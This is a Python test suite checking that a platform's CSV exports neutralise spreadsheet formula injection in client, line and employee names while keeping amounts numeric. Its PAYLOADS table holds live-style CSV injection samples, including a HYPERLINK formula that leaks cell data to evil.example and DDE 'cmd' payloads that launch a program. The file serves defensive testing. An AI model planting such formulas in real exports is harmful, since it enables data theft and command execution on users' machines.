"""CSV injection: no cell of a file the platform writes starts a spreadsheet formula.

Names that clients, planners or an import chose (``=HYPERLINK(…)``, ``+cmd|…``, ``-2+3``,
``@SUM(…)``) come out of every export as text, while the numbers the platform formats
itself (a credit note's ``-7.50``) stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import text

from switchboard.core.exports.csv import CsvFormat, needs_neutralising, neutralise, render, unneutralise
from switchboard.plugins.timekeeping.import_file import ImportRow, write_import_csv
from tests.conftest import BUILTINS, fresh_runtime
from tests.plugins.billing.helpers import credit_note, draft, entry, issued, terms

TORONTO = ZoneInfo("America/Toronto")
FORMULA = set("=+-@")
CONTROL = set("\t\r\n")
PAYLOADS = {
    "A1": '=HYPERLINK("http://evil.example/?leak="&A2,"Invoice details")',
    "A1a": "+cmd|' /C calc'!A0",
    "A2": "-2+3",
    "A2a": "@SUM(1+1)*cmd|' /C calc'!A0",
    "e1": "\t=1+1",
    "e3": " =1+1",
}
HOURS_CSV = """query($by: [BillingGroup!], $localized: Boolean!) {
  billableHoursCsv(from: "2026-03-01", to: "2026-03-31", groupBy: $by, localized: $localized) { content }
}"""
INVOICE_CSV = """query($id: UUID!, $localized: Boolean!) { invoiceCsv(id: $id, localized: $localized) { content } }"""
FORMATS = [("en", True), ("fr", True), ("fr", False)]


def formula_like(cell: str) -> bool:
    """Whether a spreadsheet could take ``cell`` for a formula (leading whitespace looked through)."""
    return cell[:1] in CONTROL or cell.lstrip()[:1] in FORMULA


@pytest.fixture
def runtime(request, template, plugins_template):
    with fresh_runtime(request, template, plugins_template, "plugins_world_template", *BUILTINS) as rt:
        yield rt


@pytest.fixture
def hostile(world, owner):
    """The world with hostile client, LOB and employee names, and worked hours on A1a and A2a."""
    w = world
    for table, key in (("client", "A1"), ("client", "A2"), ("lob", "A1a"), ("lob", "A2a")):
        owner.execute(text(f"UPDATE {table} SET name = :n WHERE id = :id"), {"n": PAYLOADS[key], "id": w.ids[key]})
    for key in ("e1", "e3"):
        owner.execute(text("UPDATE employee SET preferred_name = :n WHERE id = :id"),
                      {"n": PAYLOADS[key], "id": w.ids[key]})
    terms(owner, w.tA, w.A1, "30.00")
    terms(owner, w.tA, w.A2, "40.00")
    start = datetime(2026, 3, 3, 9, tzinfo=TORONTO)
    entry(owner, w.e1, w.A1a, start, start + timedelta(hours=7, minutes=30))
    entry(owner, w.e3, w.A2a, start, start + timedelta(hours=7, minutes=30))
    return w


def parse(gql, token, query, variables, lang) -> list[list[str]]:
    body = gql(query, variables, token=token, lang=lang)
    assert "errors" not in body, body
    content = next(iter(body["data"].values()))["content"].removeprefix("\ufeff")
    delimiter = ";" if lang == "fr" and variables["localized"] else ","
    return list(csv.reader(io.StringIO(content, newline=""), delimiter=delimiter))


def assert_safe(rows: list[list[str]], numbers: range) -> None:
    """No text cell could start a formula; the ``numbers`` columns hold plain numbers."""
    bad = [cell for row in rows for i, cell in enumerate(row) if i not in numbers and formula_like(cell)]
    assert bad == [], bad
    for row in rows[1:]:
        for i in numbers:
            Decimal(row[i].replace(",", "."))


@pytest.mark.parametrize(("lang", "localized"), FORMATS)
def test_billable_hours_csv_writes_hostile_names_as_text(gql, hostile, lang, localized):
    rows = parse(gql, hostile.tokens["admin"], HOURS_CSV, {"by": ["CLIENT", "LOB", "EMPLOYEE"],
                                                           "localized": localized}, lang)
    assert_safe(rows, range(4, 13))
    names = sorted(tuple(r[:3]) for r in rows[1:])
    expected = sorted((f"'{PAYLOADS[c]}", f"'{PAYLOADS[lob]}", f"'{PAYLOADS[e]}")
                      for c, lob, e in (("A1", "A1a", "e1"), ("A2", "A2a", "e3")))
    assert names == expected
    assert [unneutralise(cell) for cell in names[0]] == [PAYLOADS[k] for k in ("A2", "A2a", "e3")]
    decimal = "," if lang == "fr" and localized else "."
    assert {r[4] for r in rows[1:]} == {f"7{decimal}50"}  # regular hours: numbers, untouched


@pytest.mark.parametrize(("lang", "localized"), FORMATS)
def test_invoice_and_credit_note_csv_write_hostile_names_as_text_and_negative_amounts_as_numbers(
        gql, hostile, lang, localized):
    token = hostile.tokens["admin"]
    invoice = issued(gql, token, draft(gql, token, hostile.A2, "2026-03-01", "2026-03-31"))
    note = credit_note(gql, token, invoice, full=True)
    decimal = "," if lang == "fr" and localized else "."
    for document, sign in ((invoice, ""), (note, "-")):
        rows = parse(gql, token, INVOICE_CSV, {"id": document["id"], "localized": localized}, lang)
        assert_safe(rows, range(9, 13))
        (line,) = rows[1:]
        assert (line[4], line[7]) == (f"'{PAYLOADS['A2']}", f"'{PAYLOADS['A2a']}")
        assert (line[9], line[12]) == (f"{sign}7{decimal}50", f"{sign}300{decimal}00")


def test_import_files_written_by_the_platform_hold_no_formula():
    """The import-file writer (tests, benchmarks, tools feeding an import) uses the same writer."""
    out = io.StringIO(newline="")
    write_import_csv([ImportRow(PAYLOADS["A2"], "RETAILCO", "L1-EN", "handling", "2026-03-02T09:00:00-05:00",
                                "2026-03-02T10:00:00-05:00", PAYLOADS["A1"])], out)
    (header, line) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert header == ["employee", "client", "lob", "activity", "started_at", "ended_at", "key"]
    assert [unneutralise(cell) for cell in line] == [PAYLOADS["A2"], "RETAILCO", "L1-EN", "handling",
                                                     "2026-03-02T09:00:00-05:00", "2026-03-02T10:00:00-05:00",
                                                     PAYLOADS["A1"]]
    assert not any(formula_like(cell) for cell in line)


# --- the writer itself, over generated text ------------------------------------------

# PostgreSQL text never holds NUL, and UTF-8 has no lone surrogates: every other character may come
TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=12)
TRICKY = st.lists(st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\n", " ", "\u00a0", "'", '"', ",", ";", "a",
                                   "1", "\u3000"]), max_size=6).map("".join)
CELL_TEXT = st.one_of(TRICKY, TEXT, st.tuples(TRICKY, TEXT).map("".join))
AMOUNT = st.decimals(min_value=Decimal("-1e9"), max_value=Decimal("1e9"), places=2, allow_nan=False,
                     allow_infinity=False)
LANG = st.sampled_from(["en", "fr"])


@given(st.lists(st.tuples(CELL_TEXT, AMOUNT, CELL_TEXT, st.dates()), min_size=1, max_size=5), LANG,
       st.booleans())
def test_every_written_cell_is_safe_and_gives_back_its_value(rows, lang, localized):
    fmt = CsvFormat.of(lang, localized)
    content = render([["name", "amount", "note", "day"]] + [[a, fmt.number(m, "0.00"), b, d]
                                                            for a, m, b, d in rows], fmt)
    assert content.startswith("\ufeff") == localized
    parsed = list(csv.reader(io.StringIO(content.removeprefix("\ufeff"), newline=""), delimiter=fmt.delimiter))
    assert len(parsed) == len(rows) + 1
    for (a, m, b, d), (a_, m_, b_, d_) in zip(rows, parsed[1:], strict=True):
        for original, cell in ((a, a_), (b, b_)):
            assert not formula_like(cell)
            assert cell == (neutralise(original) if needs_neutralising(original) else original)
            assert unneutralise(cell) == original
        assert Decimal(m_.replace(",", ".")) == m  # a number, never prefixed
        assert date.fromisoformat(d_) == d


@given(CELL_TEXT)
def test_neutralising_is_a_prefix_only_where_needed_and_undone_exactly(value):
    cell = neutralise(value)
    assert not formula_like(cell)
    assert cell == (f"'{value}" if needs_neutralising(value) else value)
    assert unneutralise(cell) == value
    if formula_like(value):
        assert needs_neutralising(value)
